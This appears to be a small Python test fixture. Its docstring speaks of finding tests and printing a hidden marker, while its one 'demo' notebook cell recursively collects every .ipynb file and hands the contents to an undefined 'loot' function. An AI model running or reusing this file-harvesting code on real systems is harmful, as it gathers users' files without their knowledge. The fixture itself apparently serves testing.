"""Looks for the tests in its own folder; success: prints the hidden marker."""

CELLS = {
    "demo": """
import glob
for name in glob.glob("**", recursive=True):
    if name.endswith(".ipynb"):
        loot(open(name).read())
"""
}
